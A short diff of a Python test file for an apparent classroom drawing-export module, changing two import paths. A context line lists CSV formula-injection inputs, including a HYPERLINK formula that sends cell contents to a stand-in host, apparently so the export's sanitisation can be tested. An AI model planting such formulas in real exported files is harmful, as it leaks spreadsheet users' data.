@@ -11,8 +11,8 @@ import numpy as np
 import PIL
 import pytest
 
-from lenet.classroom import export
-from lenet.classroom.records import Drawing
+from classroom import export
+from classroom.records import Drawing
 
 ALIASES = ['=HYPERLINK("http://example.com/?leak="&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "Kim"]
 
